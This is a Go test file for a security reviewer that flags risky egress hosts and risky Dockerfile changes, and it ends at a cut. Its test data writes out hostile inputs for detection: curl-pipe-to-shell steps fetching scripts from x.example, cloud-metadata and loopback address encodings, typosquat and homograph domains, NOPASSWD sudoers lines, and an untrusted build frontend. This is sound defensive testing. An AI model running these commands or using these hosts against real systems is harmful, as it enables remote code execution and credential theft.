package operator

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bot-bottle/supervise/internal/apply"
	"github.com/bot-bottle/supervise/internal/payload"
)

var updateFindings = flag.Bool("update-findings", false, "rewrite docs/findings.md")

func codesOf(fs []Finding) []string {
	out := []string{}
	for _, f := range fs {
		out = append(out, f.Code)
	}
	return out
}

func egressOf(host string, paths ...string) payload.Payload {
	return payload.Payload{Tool: payload.Egress, Host: host, Route: &payload.Route{Host: host, PathAllowlist: paths}}
}

func withAuth(p payload.Payload) payload.Payload {
	p.Route.Auth = &payload.Auth{Scheme: "Bearer", TokenRef: "GH_TOKEN"}
	return p
}

func pipelockOf(host, url string) payload.Payload {
	return payload.Payload{Tool: payload.Pipelock, Host: host, URL: url}
}

func planOf(targets ...apply.Target) *apply.Plan { return &apply.Plan{Bottle: "web", Targets: targets} }

// newEntry is a target of kind k in which the host is not yet; table is what is there.
func newEntry(k apply.Kind, table ...string) apply.Target {
	return apply.Target{Kind: k, Exists: true, EntryAfter: "entry", Table: table}
}

func coveredBy(k apply.Kind, table ...string) apply.Target {
	return apply.Target{Kind: k, Exists: true, EntryBefore: "entry", EntryAfter: "entry", Covered: true, Table: table}
}

// addsHost are the notes of every new host without paths.
var addsHost = []string{"new-host", "whole-host"}

const (
	route = apply.KindEgress
	gate  = apply.KindPipelock
)

// shortOnes are n paths of two letters.
func shortOnes(n int) []string {
	var out []string
	for i := range n {
		out = append(out, "/a"+string(rune('a'+i)))
	}
	return out
}

func scoped() apply.Target {
	return apply.Target{Kind: route, Exists: true, EntryBefore: "a", EntryAfter: "b"}
}

func wide() apply.Target {
	t := scoped()
	t.RouteWidened = true
	return t
}

func ignored() apply.Target {
	t := coveredBy(route)
	t.AuthIgnored = true
	return t
}

func loose() apply.Target {
	t := newEntry(gate)
	t.NotStrict = true
	return t
}

// planCases are about what the plan says of the host.
var planCases = []struct {
	name string
	p    payload.Payload
	plan *apply.Plan
	want []string
}{
	{"new host with paths", egressOf("api.example.com", "/v1/"), planOf(newEntry(route)), []string{"new-host"}},
	{"new whole host", egressOf("api.example.com"), planOf(newEntry(route)), addsHost},
	{"new in both gates", egressOf("api.example.com"), planOf(newEntry(gate), newEntry(route)), addsHost},
	{"route not managed", egressOf("api.example.com"), &apply.Plan{Unmanaged: []apply.Kind{route}}, addsHost},
	{"no plan", egressOf("api.example.com"), nil, addsHost},
	{"routes unreadable", egressOf("127.0.0.1"), &apply.Plan{Blocked: errors.New("no")}, []string{"loopback", "ip-literal", "new-host", "whole-host"}},
	{"covered", egressOf("10.0.0.1"), planOf(coveredBy(route)), []string{"covered"}},
	{"covered in both gates", egressOf("a.example.com"), planOf(coveredBy(gate, "a.example.com"), coveredBy(route)), []string{"covered"}},
	{"covered by a wildcard", pipelockOf("a.example.com", "https://a.example.com/"), planOf(coveredBy(gate, "x.example.com", "*.example.com")), []string{"covered", "wildcard-covered"}},
	{"wildcard covers its base", pipelockOf("example.com", "https://example.com/"), planOf(coveredBy(gate, "*.Example.com")), []string{"covered", "wildcard-covered"}},
	{"covered, but a gate is not managed", egressOf("a.example.com", "/x/"), &apply.Plan{Targets: []apply.Target{coveredBy(route)}, Unmanaged: []apply.Kind{gate}}, []string{}},
	{"routed, new to pipelock", egressOf("a.example.com"), planOf(newEntry(gate), coveredBy(route)), []string{"new-host"}},
	{"new route, known to pipelock", egressOf("a.example.com", "/x/"), planOf(coveredBy(gate, "a.example.com"), newEntry(route)), []string{"new-host"}},
	{"more paths", egressOf("a.example.com", "/x/"), planOf(scoped()), []string{"wider-paths"}},
	{"more paths keep an address a danger", egressOf("10.1.2.3", "/x/"), planOf(scoped()), []string{"private", "ip-literal", "wider-paths"}},
	{"widened", egressOf("a.example.com"), planOf(wide()), []string{"widened"}},
	{"widened by a path", egressOf("a.example.com", "/v1/", "/"), planOf(wide()), []string{"widened"}},
	{"new, the whole by a path", egressOf("a.example.com", "/v1/", "/"), planOf(newEntry(route)), addsHost},
	{"widened by one letter", egressOf("a.example.com", "/v1/", "/r"), planOf(scoped()), []string{"widened", "wider-paths"}},
	{"widened by many short paths", egressOf("a.example.com", shortOnes(maxShort+1)...), planOf(scoped()), []string{"widened", "wider-paths"}},
	{"some short paths", egressOf("a.example.com", shortOnes(maxShort)...), planOf(scoped()), []string{"wider-paths"}},
	{"short directories", egressOf("a.example.com", "/a/", "/b/"), planOf(scoped()), []string{"wider-paths"}},
	{"new, with one letter", egressOf("a.example.com", "/r"), planOf(newEntry(route)), addsHost},
	{"one letter that is covered", egressOf("a.example.com", "/r"), planOf(coveredBy(route)), []string{"covered"}},
	{"auth for a new host", withAuth(egressOf("a.example.com", "/x/")), planOf(newEntry(route)), []string{"credential", "new-host"}},
	{"auth for a known host", withAuth(egressOf("a.example.com", "/x/")), planOf(ignored()), []string{"covered", "auth-ignored"}},
	{"auth, route not managed", withAuth(egressOf("a.example.com", "/x/")), &apply.Plan{Unmanaged: []apply.Kind{route}}, []string{"credential", "new-host"}},
	{"pipelock, new", pipelockOf("a.example.com", "https://a.example.com/v1"), planOf(newEntry(gate)), []string{"new-host"}},
	{"pipelock, default ports", pipelockOf("a.example.com", "HTTP://a.example.com:80/v1"), planOf(newEntry(gate)), []string{"new-host"}},
	{"pipelock, another port", pipelockOf("a.example.com", "https://a.example.com:8443/v1"), planOf(newEntry(gate)), []string{"new-host", "port"}},
	{"pipelock, the other scheme's port", pipelockOf("a.example.com", "http://a.example.com:443/"), planOf(newEntry(gate)), []string{"new-host", "port"}},
	{"pipelock not strict", pipelockOf("a.example.com", "https://a.example.com/"), planOf(loose()), []string{"new-host", "pipelock-not-strict"}},
	{"a registry's suffix", egressOf("co.uk", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
	{"a company's suffix", egressOf("github.io", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
	{"a customer's name", egressOf("someone.github.io", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
	{"below a customer's name", egressOf("a.bucket.s3.amazonaws.com", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
	{"an ordinary name under two labels", egressOf("www.example.co.uk", "/x/"), planOf(newEntry(route)), []string{"new-host"}},
}

func TestHostFindings(t *testing.T) {
	for _, tt := range planCases {
		t.Run(tt.name, func(t *testing.T) {
			got := codesOf(findingsFor(tt.p, tt.plan))
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("findings mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// hostCases are about what a host alone says.
var hostCases = []struct {
	host string
	want string // codes besides new-host and whole-host
}{
	{"api.example.com", ""},
	{"8.8.8.8", "ip-literal"},
	{"2001:4860:4860::8888", "ip-literal"},
	{"127.0.0.1", "loopback ip-literal"},
	{"127.0.0.1.", "loopback ip-literal"},
	{"127.9.9.9", "loopback ip-literal"},
	{"0.0.0.0", "loopback ip-literal"},
	{"::", "loopback ip-literal"},
	{"::1", "loopback ip-literal"},
	{"[::1]", "loopback ip-literal"},
	{"::ffff:127.0.0.1", "loopback ip-literal"},
	{"::127.0.0.1", "loopback ip-literal"},
	{"64:ff9b::7f00:1", "loopback ip-literal"},
	{"2002:7f00:1::", "loopback ip-literal"},
	{"2130706433", "loopback ip-literal"},
	{"0x7f000001", "loopback ip-literal"},
	{"0x7f.1", "loopback ip-literal"},
	{"127.1", "loopback ip-literal"},
	{"017700000001", "loopback ip-literal"},
	{"0177.0.0.1", "loopback ip-literal"},
	{"010.0.0.1", "private ip-literal"}, // decimal to some
	{"1.2.3.4.5", ""},                   // a name that no resolver has
	{"256.1.1.1", ""},
	{"10.0.0.1", "private ip-literal"},
	{"172.16.0.1", "private ip-literal"},
	{"172.32.0.1", "ip-literal"},
	{"192.168.1.1", "private ip-literal"},
	{"100.64.0.1", "private ip-literal"},
	{"240.0.0.1", "private ip-literal"},
	{"224.0.0.1", "link-local ip-literal"},
	{"fd12::1", "private ip-literal"},
	{"169.254.1.1", "link-local ip-literal"},
	{"fe80::1", "link-local ip-literal"},
	{"fe80::1%eth0", "link-local ip-literal"},
	{"169.254.169.254", "metadata ip-literal"},
	{"0xa9fea9fe", "metadata ip-literal"},
	{"2852039166", "metadata ip-literal"},
	{"::ffff:a9fe:a9fe", "metadata ip-literal"},
	{"fd00:ec2::254", "metadata ip-literal"},
	{"100.100.100.200", "metadata ip-literal"},
	{"metadata", "metadata"},
	{"metadata.google.internal", "metadata"},
	{"METADATA.google.internal.", "metadata"},
	{"169-254-169-254.nip.io", "metadata"},
	{"10.0.0.1.nip.io", "private"},
	{"app-7f000001.nip.io", "loopback"},
	{"app-10.0.0.1.nip.io", "private"},
	{"127-0-0-1.foo.sslip.io", "loopback"},
	{"10.0.0.1.foo.sslip.io", "private"},
	{"8-8-8-8.127-0-0-1.sslip.io", "loopback"}, // services differ in which one counts
	{"x.a-127-0-0-1-b.nip.io", "loopback"},
	{"--1.sslip.io", "loopback"},
	{"--1.foo.sslip.io", "loopback"},
	{"deadbeef.example.com", ""},
	{"app-7f000001.example.com", ""},
	{"app.7f000001.nip.io", "loopback"},
	{"app.8.8.8.8.sslip.io", ""},
	{"localhost", "loopback"},
	{"app.localhost", "loopback"},
	{"host.docker.internal", "loopback"},
	{"localtest.me", "loopback"},
	{"db", "private"},
	{"db.internal", "private"},
	{"printer.local", "private"},
	{"vault.default.svc", "private"},
	{"api.default.svc.cluster.local", "private"},
	{"internal.example.com", ""},
	{"xn--mnchen-3ya.de", "punycode"},
	{"xn--pple-43d.com", "mixed-script punycode"}, // Cyrillic а in apple
	{"xn--ghub-y0a.com", "punycode"},              // not close to anything
	{"xn--fsqu00a.xn--0zwm56d", "punycode"},       // one script
	{"xn--zckzah6b2c.jp", "punycode"},             // languages that mix scripts
	{"xn--80ak6aa92e.com", "punycode"},            // all Cyrillic, аррӏе
	{"github.com", ""},                            // the real one
	{"api.github.com", ""},                        //
	{"codeload.github.com", ""},                   //
	{"pypy.org", ""},                              // real, one letter from pypi.org
	{"githud.com", "look-alike"},                  // one letter
	{"gihtub.com", "look-alike"},                  // two swapped
	{"githubb.com", "look-alike"},                 // one more
	{"githu.com", "look-alike"},                   // one less
	{"g1thub.com", "look-alike"},                  // digit
	{"rubygerns.org", "look-alike"},               // rn for m
	{"git-hub.com", "look-alike"},                 // hyphen
	{"api-github.com", "look-alike"},              // hyphen for dot
	{"github.net", "look-alike"},                  // another suffix
	{"pypl.org", "look-alike"},                    //
	{"github.com.example.net", "look-alike"},      // in front
	{"api.github.com.example.net", "look-alike"},  //
	{"github-com.example.net", "look-alike"},      //
	{"raw.githubuserc0ntent.com", "look-alike"},   //
	{"github.com-login.evil.com", "look-alike"},   // in front, with a hyphen
	{"pypi.org-files.net", "look-alike"},          //
	{"login-github.com.evil.io", "look-alike"},    //
	{"login-github-com.evil.io", "look-alike"},    //
	{"githubcom.evil.io", "look-alike"},           // without the dot
	{"www.githubcom-login.evil.io", "look-alike"}, //
	{"gist-github.com", "look-alike"},             // one word of a name
	{"login.github-auth.com", "look-alike"},       //
	{"my-github-login.com", "look-alike"},         //
	{"g1thub-login.com", "look-alike"},            //
	{"github-login.example.net", ""},              // a name in somebody's domain
	{"github-community.example.net", ""},          // not github-com
	{"registry.npmjs.org", ""},                    //
	{"someone.github.io", "public-suffix"},        // not github.com under another suffix
	{"xn--gthub-cta.com", "look-alike punycode"},  // gìthub
	{"xn--80aeh9bjl.com", "punycode"},             //
}

func TestHosts(t *testing.T) {
	for _, tt := range hostCases {
		t.Run(tt.host, func(t *testing.T) {
			got := codesOf(findingsFor(egressOf(tt.host), planOf(newEntry(apply.KindEgress))))
			got = slices.DeleteFunc(got, func(c string) bool { return slices.Contains(addsHost, c) })
			if g := strings.Join(got, " "); g != tt.want {
				t.Errorf("findings of %q = %q, want %q", tt.host, g, tt.want)
			}
		})
	}
}

func TestLookAlikeOfRouted(t *testing.T) {
	for _, tt := range []struct {
		host   string
		routed []string
		want   string // evidence; "" for no finding
	}{
		{"acme-corp.com", []string{"acmecorp.com"}, "acme-corp.com ~ acmecorp.com"},
		{"acmecorp.co", []string{"acmecorp.com"}, "acmecorp.co ~ acmecorp.com"},
		{"api2.acme.com", []string{"api1.acme.com"}, ""},             // one owner
		{"acme.org", []string{"acme.com", "www.acme.org"}, ""},       // routed already
		{"abc.com", []string{"abd.com"}, ""},                         // too short to tell
		{"acme.com", []string{"localhost", "10.0.0.1", "*", ""}, ""}, //
		{"acrne.blob.core.windows.net", []string{"acme.blob.core.windows.net"}, "acrne.blob.core.windows.net ~ acme.blob.core.windows.net"},
		{"pypl.org", []string{"files.pypl.org"}, "pypl.org ~ pypi.org"}, // being routed does not make it the famous one
		{"x.acrne.com", []string{"*.acme.com"}, "x.acrne.com ~ acme.com"},
		{"mycorp.com-sso.net", []string{"api.mycorp.com"}, "mycorp.com-sso.net ~ api.mycorp.com"},
		{"mycorp-api.com", []string{"api.mycorp.com"}, "mycorp-api.com ~ api.mycorp.com"},
		{"mycorp-api.net", []string{"api.mycorp.com"}, ""},
		{"mycorp.example.net", []string{"api.mycorp.com"}, ""},
		{"xmycorp.com-sso.net", []string{"api.mycorp.com"}, ""},
		{"amycorp.com.mycorp.com.b.net", []string{"api.mycorp.com"}, "amycorp.com.mycorp.com.b.net ~ api.mycorp.com"},
	} {
		t.Run(tt.host, func(t *testing.T) {
			got := ""
			for _, f := range findingsFor(egressOf(tt.host, "/x"), planOf(newEntry(apply.KindPipelock), newEntry(apply.KindEgress, tt.routed...))) {
				if f.Code == "look-alike" {
					got = f.Evidence.Raw()
				}
			}
			if got != tt.want {
				t.Errorf("look-alike of %q among %q = %q, want %q", tt.host, tt.routed, got, tt.want)
			}
		})
	}
}

// TestHonestNames: hosts that builds really need, and usual names of mirrors, are not held to be imitations.
func TestHonestNames(t *testing.T) {
	for host := range strings.FieldsSeq(`
		api.github.com codeload.github.com objects.githubusercontent.com raw.githubusercontent.com githubusercontent.com githubassets.com
		github.io github-cloud.s3.amazonaws.com github-releases.s3.amazonaws.com github-readme-stats.vercel.app my-github-mirror.corp.example
		github.corp.example gitlab.corp.example registry.gitlab.com gitlab-org.gitlab.io api.bitbucket.org ghcr.io pkg-containers.githubusercontent.com
		pypi.org files.pythonhosted.org test.pypi.org pypi.python.org www.python.org docs.python.org pypi-mirror.corp.example conda.anaconda.org
		repo.anaconda.com download.pytorch.org registry.npmjs.org npmjs.com www.npmjs.org registry.yarnpkg.com repo.yarnpkg.com npm.pkg.github.com
		nodejs.org unofficial-builds.nodejs.org deno.land jsr.io esm.sh cdn.jsdelivr.net unpkg.com registry.npmmirror.com npm-registry.corp.example
		proxy.golang.org sum.golang.org go.dev dl.google.com golang.org gopkg.in goproxy.io goproxy.cn crates.io static.crates.io index.crates.io
		static.rust-lang.org doc.rust-lang.org rubygems.org index.rubygems.org packagist.org repo.packagist.org getcomposer.org
		repo.maven.apache.org repo1.maven.org plugins.gradle.org services.gradle.org downloads.gradle.org archive.apache.org dlcdn.apache.org
		oss.sonatype.org central.sonatype.com api.nuget.org www.nuget.org hackage.haskell.org hex.pm repo.hex.pm cpan.org metacpan.org cran.r-project.org
		deb.debian.org security.debian.org snapshot.debian.org archive.ubuntu.com security.ubuntu.com ppa.launchpadcontent.net dl-cdn.alpinelinux.org
		mirrors.fedoraproject.org registry-1.docker.io auth.docker.io production.cloudflare.docker.com download.docker.com quay.io cdn.quay.io
		gcr.io us-docker.pkg.dev registry.k8s.io public.ecr.aws mcr.microsoft.com packages.microsoft.com login.microsoftonline.com
		huggingface.co cdn-lfs.huggingface.co hf.co storage.googleapis.com www.googleapis.com oauth2.googleapis.com www.google-analytics.com
		generativelanguage.googleapis.com aiplatform.googleapis.com cloudflare-dns.com one.one.one.one registry.docker-cn.com api.anthropic.com
		console.anthropic.com api.openai.com openaipublic.blob.core.windows.net downloads.sourceforge.net api.stackexchange.com stackoverflow.com
		formulae.brew.sh cache.nixos.org channels.nixos.org releases.hashicorp.com registry.terraform.io dl.k8s.io get.helm.sh sh.rustup.rs
		sentry.io api.snapcraft.io flathub.org dl.flathub.org repo.mysql.com apt.postgresql.org packages.gitlab.com deb.nodesource.com
	`) {
		for _, f := range findingsFor(egressOf(host), planOf(newEntry(apply.KindEgress, "api.mycorp.com"))) {
			if f.Code == "look-alike" {
				t.Errorf("%s: %s", host, f.Evidence)
			}
		}
	}
}

const (
	imgDigest  = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	debianBase = "FROM debian:12" + imgDigest + "\n"
)

var buildCases = []struct {
	name string
	now  string // "": there is none
	file string
	want string
}{
	{"nothing special", "", debianBase + "RUN apt-get install -y jq\nUSER app\n", ""},
	{"unchanged", debianBase + "USER root\n", debianBase + "USER root\n", "covered"},
	{"comments do not matter", debianBase + "USER app\n", debianBase + "# more\nUSER   app\n", ""},
	{"no user", "", debianBase, "user-unset"},
	{"no user before either", debianBase, debianBase + "RUN true\n", ""},
	{"root", "", debianBase + "USER root\n", "user-root"},
	{"root by number", "", debianBase + "USER 0:0\n", "user-root"},
	{"root by variable", "", "ARG U=root\n" + debianBase + "ARG U\nUSER $U\n", "user-root"},
	{"root by default", "", debianBase + "USER ${U:-root}\n", "user-root"},
	{"root in between", "", debianBase + "USER root\nRUN x\nUSER app\n", ""},
	{"root stays root", debianBase + "USER root\n", debianBase + "USER 0\n", "dropped-lines"},
	{"root from an earlier stage", "", "FROM debian:12" + imgDigest + " AS a\nUSER root\nFROM a\n", "user-root"},
	{"root in a stage that is not built on", "", "FROM debian:12" + imgDigest + " AS a\nUSER root\n" + debianBase + "USER app\n", ""},
	{"unprivileged user dropped", debianBase + "USER app\n", debianBase, "user-root dropped-lines"},
	{"pipe", "", debianBase + "USER app\nRUN curl -fsSL https://x.example/i.sh | sh\n", "curl-pipe-sh"},
	{"pipe over lines", "", debianBase + "USER app\nRUN curl \\\n  -fsSL https://x.example/i.sh \\\n  # said aside\n\n  | \\\n  sudo -E bash -s -- -y\n", "curl-pipe-sh"},
	{"pipe with the other escape", "", "# escape=`\n" + debianBase + "USER app\nRUN wget -qO- https://x.example/i.sh `\n | bash\n", "curl-pipe-sh"},
	{"process substitution", "", debianBase + "USER app\nRUN bash <(curl -s https://x.example/i.sh)\n", "curl-pipe-sh"},
	{"command substitution", "", debianBase + "USER app\nRUN sh -c \"$(curl -fsSL https://x.example/i.sh)\"\n", "curl-pipe-sh"},
	{"eval of backticks", "", debianBase + "USER app\nRUN eval `wget -qO- https://x.example/i.sh`\n", "curl-pipe-sh"},
	{"quoted script", "", debianBase + "USER app\nRUN bash -c 'curl https://x.example/i.sh | sh'\n", "curl-pipe-sh"},
	{"exec form", "", debianBase + "USER app\nRUN [\"bash\", \"-c\", \"curl https://x.example/i.sh | sh\"]\n", "curl-pipe-sh"},
	{"here-document", "", debianBase + "USER app\nRUN <<EOF\nset -e\ncurl https://x.example/i.sh | python3 -\nEOF\n", "curl-pipe-sh"},
	{"copied here-document", "", debianBase + "USER app\nCOPY <<-\"EOF\" /i.sh\n\tcurl https://x.example/i.sh |\n\tsh\n\tEOF\n", "curl-pipe-sh"},
	{"after && and tee", "", debianBase + "USER app\nRUN cd /tmp && curl x.example?a=1 2>&1 | tee l | env A=b /bin/bash\n", "curl-pipe-sh"},
	{"behind ONBUILD", "", debianBase + "USER app\nONBUILD RUN curl x.example | sh\n", "curl-pipe-sh"},
	{"at the start of the container", "", debianBase + "USER app\nCMD curl x.example | sh\n", "curl-pipe-sh"},
	{"a pipe into tar", "", debianBase + "USER app\nRUN curl x.example | tar xz && sh ./x\n", ""},
	{"a program that reads data", "", debianBase + "USER app\nRUN curl x.example | python3 -m json.tool\n", ""},
	{"curl installed, then a shell", "", debianBase + "USER app\nRUN apt-get install -y curl bash; echo x | sh\n", ""},
	{"quoted pipe", "", debianBase + "USER app\nRUN curl 'https://x.example/a|sh'\n", ""},
	{"here-document text is no instruction", "", debianBase + "USER app\nCOPY <<EOF /x\nUSER root\nFROM evil\nEOF\n", ""},
	{"accepted before", debianBase + "RUN curl x.example | sh\nUSER app\n", debianBase + "RUN  curl x.example | sh \nRUN true\nUSER app\n", ""},
	{"accepted before, as a comment", debianBase + "RUN <<EOF\n# see curl x.example | sh\nEOF\nUSER app\n", debianBase + "RUN <<EOF\n# see\ncurl x.example | sh\nEOF\nUSER app\n", "curl-pipe-sh dropped-lines"},
	{"accepted before, other white space in quotes", debianBase + "RUN 'a  b' && curl x.example | sh\nUSER app\n", debianBase + "RUN 'a b' && curl x.example | sh\nUSER app\n", "curl-pipe-sh dropped-lines"},
	{"accepted before, with a variable", debianBase + "ARG V=1\nRUN curl $V | sh\nUSER app\n", debianBase + "ARG V=2\nRUN curl $V | sh\nUSER app\n", "curl-pipe-sh dropped-lines"},
	{"ADD from a URL", "", debianBase + "USER app\nADD --chown=1:1 https://x.example/t.tgz /opt/\n", "add-url"},
	{"ADD from git", "", debianBase + "USER app\nADD git@x.example:a/b.git /opt/\n", "add-url"},
	{"ADD exec form", "", debianBase + "USER app\nADD [\"HTTP://x.example/a\", \"/opt/\"]\n", "add-url"},
	{"ADD a file", "", debianBase + "USER app\nADD a.tgz /opt/\n", ""},
	{"secret by name", "", debianBase + "USER app\nENV A=b GITHUB_TOKEN=\"x y\"\n", "secret-in-env"},
	{"secret, old form", "", debianBase + "USER app\nENV DB_PASSWORD hunter2\n", "secret-in-env"},
	{"secret as build argument", "", debianBase + "USER app\nARG NPM_TOKEN\n", "secret-in-env"},
	{"secret by value", "", debianBase + "USER app\nENV REPO=https://u:p@x.example/\n", "secret-in-env"},
	{"key by value", "", debianBase + "USER app\nENV X=AKIAABCDEFGHIJKLMNOP\n", "secret-in-env"},
	{"where a secret is", "", debianBase + "USER app\nENV TOKEN_FILE=/run/secrets/t GPG_KEY=ABCD SSH_AUTH_SOCK=/x EMPTY_TOKEN=\n", ""},
	{"setuid by number", "", debianBase + "USER app\nRUN chmod 4755 /x\n", "setuid"},
	{"setuid by letter", "", debianBase + "USER app\nRUN chmod -R u+rwx,u+s /x\n", "setuid"},
	{"capabilities", "", debianBase + "USER app\nRUN setcap cap_net_admin+ep /x\n", "setuid"},
	{"setuid while copying", "", debianBase + "USER app\nCOPY --chmod=4755 a /x\n", "setuid"},
	{"sudo without a password", "", debianBase + "USER app\nRUN echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app\n", "setuid"},
	{"ordinary modes", "", debianBase + "USER app\nRUN chmod 0755 /x && chmod +x /usr/bin/s && chmod 1777 /tmp\nCOPY --chmod=755 a /x\n", ""},
	{"insecure", "", debianBase + "USER app\nRUN --security=insecure mount\n", "insecure-build"},
	{"host network", "", debianBase + "USER app\nRUN --network=host true\n", "insecure-build"},
	{"build secret", "", debianBase + "USER app\nRUN --mount=type=secret,id=a --mount=type=cache,target=/c true\n", "build-secret"},
	{"ssh agent", "", debianBase + "USER app\nRUN --mount=target=/x,type=ssh true\n", "build-secret"},
	{"own frontend", "", "# syntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"official frontend", "", "#syntax = docker/dockerfile:1.7\n" + debianBase + "USER app\n", ""},
	{"imitated frontend", "", "# syntax=docker/dockerfile:1/x\n" + debianBase + "USER app\n", "build-frontend"},
	{"other base", debianBase + "USER app\n", "FROM ubuntu:24.04" + imgDigest + "\nUSER app\n", "base-image"},
	{"files from another image", debianBase + "USER app\n", debianBase + "COPY --from=x.example/y" + imgDigest + " /a /b\nUSER app\n", "base-image"},
	{"mounted from another image", debianBase + "USER app\n", debianBase + "RUN --mount=type=bind,from=x.example/y" + imgDigest + ",target=/y true\nUSER app\n", "base-image"},
	{"files from a stage", "", "FROM debian:12" + imgDigest + " AS a\n" + debianBase + "COPY --from=a /a /b\nCOPY --from=0 /a /b\nUSER app\n", ""},
	{"base by variable", "ARG B=debian:12" + imgDigest + "\nFROM ${B}\nUSER app\n", debianBase + "USER app\n", "dropped-lines"},
	{"no digest", "", "FROM debian:12\nUSER app\n", "base-unpinned"},
	{"scratch", "", "FROM scratch\nUSER app\n", ""},
	{"CRLF and lower case", "", "from debian:12" + imgDigest + "\r\nuser root\r\n", "user-root"},
	{"continuation at the end", "", debianBase + "USER app\nRUN curl x.example | sh \\", "curl-pipe-sh"},
	{"here-document without an end", "", debianBase + "USER app\nRUN <<EOF\ncurl x.example | sh\n", "curl-pipe-sh"},
	{"a variable doubled in every line", "", debianBase + doubled(60) + "USER app\n", "not-examined"},
	{"a variable that is far too long", "", debianBase + "ENV A=" + strings.Repeat("x", maxValue+1) + "\nENV B=$A\nUSER app\n", "not-examined"},
	{"variables that are too many", "", debianBase + "ENV A=" + strings.Repeat("x", maxValue) + "\n" + strings.Repeat("ENV B=$A\n", maxTotal/maxValue+1) + "USER app\n", "not-examined"},
	{"defaults in defaults", "", debianBase + "USER ${A:-${B:-${C:-root}}}\n", "user-root"},
	{"defaults far too deep", "", debianBase + "USER " + strings.Repeat("${A:-", maxDepth+1) + "root" + strings.Repeat("}", maxDepth+1) + "\n", "not-examined user-root"},
	{"a variable changed by a pattern", "", debianBase + "ENV A=rootx\nUSER ${A%x}\n", "not-examined user-root"},
	{"an unknown variable changed by a pattern", "", debianBase + "ENV PATH=${PATH%/}:/x\nUSER app\n", ""},
	{"user by a variable without a value", "", "ARG U\n" + debianBase + "ARG U\nUSER $U\n", "user-root"},
	{"group by a variable without a value", "", debianBase + "ARG G\nUSER app:$G\n", ""},
	{"user in quotes", "", debianBase + "USER r\"oo\"t\n", "user-root"},
	{"user with the other escape", "", "# escape=`\n" + debianBase + "USER r`oot\n", "user-root"},
	{"values of one instruction", "", debianBase + "ENV U=root\nENV U=app V=$U\nUSER $V\n", "user-root"},
	{"several arguments", "", debianBase + "ARG A U=root\nUSER $U\n", "user-root"},
	{"variable of the stage below", "", "FROM debian:12" + imgDigest + " AS a\nENV U=root\nFROM a\nUSER $U\n", "user-root"},
	{"stage in quotes", "", "FROM debian:12" + imgDigest + " AS a\nUSER root\nFROM \"a\"\n", "user-root"},
	{"ADD by a variable", "", debianBase + "ENV U=https://x.example/a\nADD $U /x\nUSER app\n", "add-url"},
	{"ADD from git by any user", "", debianBase + "USER app\nADD me@x.example:a/b /opt/\n", "add-url"},
	{"flag in quotes", "", debianBase + "USER app\nRUN --network=\"host\" true\n", "insecure-build"},
	{"frontend after a shebang", "", "#!/bin/sh\n# syntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"frontend behind slashes", "", "// syntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"frontend in JSON", "", "{\"syntax\": \"x.example/evil:1\"}", "build-frontend"},
	{"frontend after a bare CR", "", "#\rsyntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"frontend between form feeds", "", "#\fsyntax\f=\fx.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"the first frontend counts", "", "# syntax=x.example/evil:1\n# syntax=docker/dockerfile:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"frontend after another directive", "", "# check=skip=all\n#\tescape=`\r\n# SYNTAX=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"frontend with words after it", "", "# syntax=docker/dockerfile:1 x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
	{"frontend too late", "", "# a comment\n# syntax=x.example/evil:1\n" + debianBase + "USER app\n", ""},
	{"comment after a wide space", "", debianBase + "USER app\nRUN curl x.example \\\n\u3000# aside\n| sh\n", "curl-pipe-sh"},
	{"comment after a wide space that would go on", "", debianBase + "USER app\n\u3000# \\\nUSER root\n", "user-root"},
	{"two CRs", "", debianBase + "USER app\r\r\nRUN curl x.example \\\r\r\n| sh\r\r\n", "curl-pipe-sh"},
	{"here-document ended with two CRs", "", debianBase + "USER app\nRUN <<EOF\ntrue\nEOF\r\r\nUSER root\nADD http://x.example/x /x\n", "user-root add-url"},
	{"here-document with CRLF", "", debianBase + "USER app\r\nRUN <<EOF\r\ncurl x.example | sh\r\nEOF\r\n", "curl-pipe-sh"},
	{"here-document with a space before its name", "", debianBase + "USER root\nRUN << EOF\nUSER app\nEOF\n", "user-root"},
	{"here-document after a wide space", "", debianBase + "USER root\nRUN true\u3000<<EOF\nUSER app\nEOF\n", "user-root"},
	{"no here-document where the words are none", "", debianBase + "USER app\nRUN true # ${x <<EOF\nUSER root\n", "user-root"},
	{"escape after a bare CR", "", "#\rescape=`\n" + debianBase + "USER app\nRUN curl x.example `\n| sh\n", "curl-pipe-sh"},
	{"not a Dockerfile", "", "hello\nworld\n", ""},
	{"as many lines as are examined", "", debianBase + "USER root\n" + strings.Repeat("\n", maxExaminedLines-2), "user-root"},
	{"a line more", "", debianBase + "USER root\n" + strings.Repeat("\n", maxExaminedLines-1), "too-long"},
	{"as many bytes as are examined", "", debianBase + "USER root\n#" + strings.Repeat("x", maxExamined-len(debianBase)-11), "user-root"},
	{"a byte more", "", debianBase + "USER root\n#" + strings.Repeat("x", maxExamined-len(debianBase)-10), "too-long"},
	{"too long and unchanged", strings.Repeat("#\n", maxExamined), strings.Repeat("#\n", maxExamined), "covered"},
	{"one line of a file that is too long", debianBase + strings.Repeat("#\n", maxExamined), debianBase + "RUN curl x | sh\n" + strings.Repeat("#\n", maxExamined), "too-long"},
}

// doubled is a file's part in which each of n variables is the one before, twice.
func doubled(n int) string {
	var b strings.Builder
	b.WriteString("ENV a0=xxxxxxxxxx\n")
	for i := range n {
		fmt.Fprintf(&b, "ENV a%d=$a%d$a%d\n", i+1, i, i)
	}
	return b.String()
}

func buildFindings(now, file string) []Finding {
